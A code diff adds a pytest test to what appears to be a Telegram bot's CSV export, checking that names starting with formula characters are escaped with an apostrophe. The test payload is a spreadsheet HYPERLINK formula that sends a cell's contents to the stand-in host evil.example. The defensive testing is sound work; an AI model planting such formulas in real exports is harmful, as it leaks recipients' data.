@@ -495,3 +495,15 @@ def test_an_unclosed_quote_is_reported_without_quoting_the_rest_of_the_file() ->
         "the set cell holds a line break (an unclosed quote in the file?)",
     )
     assert len(found[1][1]) < 120 and "…" in found[1][1]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_name_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(start: str) -> None:
+    evil = start + 'HYPERLINK("http://evil.example/?x="&F2,"Klik hier")'
+    enrolee = Enrolee(row=2, name=evil, email="+31@example.nl", set_key="set-a", language="nl", role="participant")
+    invited = imports.Invited(enrolee, "CODE123", NOW, "new", set_key="=set", language="nl", role="participant", name=evil)
+    text = importer.links_csv([invited], "pitstop_bot", lambda moment: moment.date().isoformat(), ";")
+    row = next(csv.DictReader(io.StringIO(text), delimiter=";"))
+    assert row["name"] == "'" + evil
+    assert row["email"] == "'+31@example.nl" and row["set"] == "'=set"
+    assert row["code"] == "CODE123" and row["link"] == "https://t.me/pitstop_bot?start=CODE123"
